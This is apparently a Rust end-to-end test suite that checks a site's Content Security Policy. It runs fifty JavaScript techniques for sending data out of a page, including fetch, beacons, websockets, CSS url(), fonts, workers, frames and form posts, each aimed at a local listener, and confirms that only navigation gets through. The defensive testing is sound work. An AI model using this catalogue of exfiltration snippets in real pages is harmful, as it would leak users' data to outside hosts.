//! Every request that we know by which a script in the page could send something away. The policy stops all but navigation,
//! which no policy of a page can forbid. The same scripts on a page without a policy show that each way works.

use std::fmt::Write as _;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use end_to_end::steps::READING;
use end_to_end::{Deployment, Listener, Page, Role, Site, steps, visit_unjudged};

/// How long a request may take that a script has begun.
const ARRIVAL: Duration = Duration::from_secs(3);

/// Ways by name. `$` stands for an address at the listener whose path is the name, `#` for the listener's host.
const WAYS: [(&str, &str); 50] = [
    ("fetch", "fetch('$')"),
    ("fetch-opaque", "fetch('$', { mode: 'no-cors' })"),
    (
        "fetch-keepalive",
        "fetch('$', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
    ),
    (
        "xhr",
        "const x = new XMLHttpRequest(); x.open('GET', '$'); x.send()",
    ),
    ("beacon", "navigator.sendBeacon('$', 'x')"),
    ("websocket", "new WebSocket('ws://#/websocket')"),
    ("event-source", "new EventSource('$')"),
    ("image", "new Image().src = '$'"),
    ("image-set", "const i = new Image(); i.srcset = '$ 1x'"),
    ("picture", "add('<picture><source srcset=\"$\"><img></picture>')"),
    (
        "background",
        "const d = add('<div>.</div>'); d.style.backgroundImage = 'url($)'",
    ),
    (
        "list-style",
        "const d = add('<ul><li>.</li></ul>'); d.style.listStyleImage = 'url($)'",
    ),
    (
        "border-image",
        "const d = add('<div>.</div>'); d.style.border = '9px solid'; d.style.borderImageSource = 'url($)'",
    ),
    (
        "content",
        "const d = add('<div>.</div>'); d.style.content = 'url($)'",
    ),
    (
        "style-element",
        "const s = document.createElement('style'); s.textContent = 'html { background: url($) }'; document.head.append(s)",
    ),
    (
        "style-import",
        "const s = document.createElement('style'); s.textContent = '@import \"$\"'; document.head.append(s)",
    ),
    (
        "style-attribute",
        "add('<div style=\"background: url($)\">.</div>')",
    ),
    (
        "adopted-style",
        "const s = new CSSStyleSheet(); s.replaceSync('body { background: url($) }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]",
    ),
    (
        "font",
        "const f = new FontFace('leak', 'url($)'); f.load().catch(() => 0)",
    ),
    ("stylesheet", "link('stylesheet')"),
    ("icon", "link('icon')"),
    ("prefetch", "link('prefetch')"),
    ("preload", "const l = link('preload'); l.as = 'fetch'"),
    ("module-preload", "link('modulepreload')"),
    (
        "script",
        "const s = document.createElement('script'); s.src = '$'; document.head.append(s)",
    ),
    (
        "module",
        "const s = document.createElement('script'); s.type = 'module'; s.src = '$'; document.head.append(s)",
    ),
    ("import", "import('$').catch(() => 0)"),
    ("worker-fetch", "work(`fetch('$', { mode: 'no-cors' })`)"),
    (
        "worker-xhr",
        "work(`const x = new XMLHttpRequest(); x.open('GET', '$'); x.send()`)",
    ),
    ("worker-socket", "work(`new WebSocket('ws://#/worker-socket')`)"),
    ("worker-import", "work(`importScripts('$')`)"),
    ("worker-module", "work(`import('$')`)"),
    ("worker-events", "work(`new EventSource('$')`)"),
    (
        "shared-worker",
        "new SharedWorker(URL.createObjectURL(new Blob([`fetch('$', { mode: 'no-cors' })`])))",
    ),
    ("frame", "add('<iframe src=\"$\"></iframe>')"),
    (
        "frame-document",
        "add('<iframe srcdoc=\"<img src=$>\"></iframe>')",
    ),
    (
        "frame-blob",
        "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src=$>'], { type: 'text/html' })); document.body.append(f)",
    ),
    ("object", "add('<object data=\"$\"></object>')"),
    ("embed", "add('<embed src=\"$\">')"),
    ("video", "add('<video src=\"$\" autoplay></video>')"),
    ("poster", "add('<video poster=\"$\"></video>')"),
    ("audio", "new Audio('$').load()"),
    (
        "vector-image",
        "add('<svg><image href=\"$\" width=\"9\" height=\"9\"/></svg>')",
    ),
    (
        "vector-filter",
        "add('<svg><filter id=\"f\"><feImage href=\"$\"/></filter><rect width=\"9\" height=\"9\" filter=\"url(#f)\"/></svg>')",
    ),
    ("image-button", "add('<input type=\"image\" src=\"$\">')"),
    (
        "form",
        "const f = add('<form method=\"post\" action=\"$\" target=\"kept\"></form>'); add('<iframe name=\"kept\"></iframe>'); f.submit()",
    ),
    (
        "ping",
        "const a = add('<a href=\"#here\" ping=\"$\">.</a>'); a.click()",
    ),
    (
        "worklet",
        "new AudioContext().audioWorklet.addModule('$').catch(() => 0)",
    ),
    (
        "cache",
        "caches.open('leak').then(cache => cache.add('$')).catch(() => 0)",
    ),
    (
        "compile",
        "WebAssembly.compileStreaming(fetch('$')).catch(() => 0)",
    ),
];

/// What no policy of a page forbids: to go to another page, in this tab or a new one.
const NAVIGATION: [(&str, &str); 3] = [
    ("new-tab", "open('$')"),
    (
        "anchor",
        "const a = add('<a href=\"$\" target=\"_blank\">.</a>'); a.click()",
    ),
    ("address", "location.href = '$'"),
];

const HELP: &str = "const add = html => { const t = document.createElement('template'); t.innerHTML = html;
        document.body.append(t.content); return document.body.lastElementChild; };
    const link = rel => { const l = document.createElement('link'); l.rel = rel; l.href = address; document.head.append(l); return l; };
    const work = text => new Worker(URL.createObjectURL(new Blob([text])));";

/// Takes each of these ways.
async fn take(page: &Page, ways: &[(&str, &str)], listener: &Listener) -> Result<()> {
    let host = listener.host();
    let mut script = String::new();
    for (name, way) in ways {
        let address = format!("http://{host}/{name}");
        let way = way.replace('$', &address).replace("#/", &format!("{host}/"));
        // What is refused at once is as good as what is refused later.
        writeln!(
            script,
            "try {{ const address = '{address}'; {HELP} {way}; }} catch {{}}"
        )?;
    }
    page.execute(&script).await?;
    Ok(())
}

/// Waits until all of these ways have led to the listener.
async fn all_arrive(page: &Page, ways: &[(&str, &str)], listener: &Listener) -> Result<()> {
    let missing = || -> Vec<&str> {
        let heard = listener.heard();
        let names = ways.iter().map(|(name, _)| *name);
        names.filter(|name| !heard.contains(*name)).collect()
    };
    let all = page.wait("all arrive", READING, async || Ok(missing().is_empty()));
    all.await
        .with_context(|| format!("these lead nowhere, so they show nothing: {:?}", missing()))
}

#[tokio::test]
async fn nothing_gets_out_but_by_navigation() -> Result<()> {
    let deployment = Deployment::of_dist().await?;
    // Trusted Types refuse some ways before the policy is asked, which has to stop them by itself in other browsers.
    let guard = "; require-trusted-types-for 'script'; trusted-types default";
    for is_guarded in [true, false] {
        if !is_guarded {
            deployment.edit("index.html", guard, "")?;
        }
        let listener = Listener::start().await?;
        visit_unjudged(&deployment.site.url(), async |page| {
            page.find(Role::Button, steps::SAMPLE).await?;
            take(page, &WAYS, &listener).await?;
            tokio::time::sleep(ARRIVAL).await;
            let leaked = listener.heard();
            ensure!(leaked.is_empty(), "got out: {leaked:?}");
            take(page, &NAVIGATION, &listener).await?;
            all_arrive(page, &NAVIGATION, &listener).await
        })
        .await?;
    }
    Ok(())
}

#[tokio::test]
async fn without_a_policy_every_way_leads_out() -> Result<()> {
    let site =
        Site::of_text("<!doctype html><meta charset=utf-8><title>Open</title><body>open</body>").await?;
    let listener = Listener::start().await?;
    visit_unjudged(&site.url(), async |page| {
        page.wait_for_text(&["open"], READING).await?;
        take(page, &WAYS, &listener).await?;
        all_arrive(page, &WAYS, &listener).await
    })
    .await
}
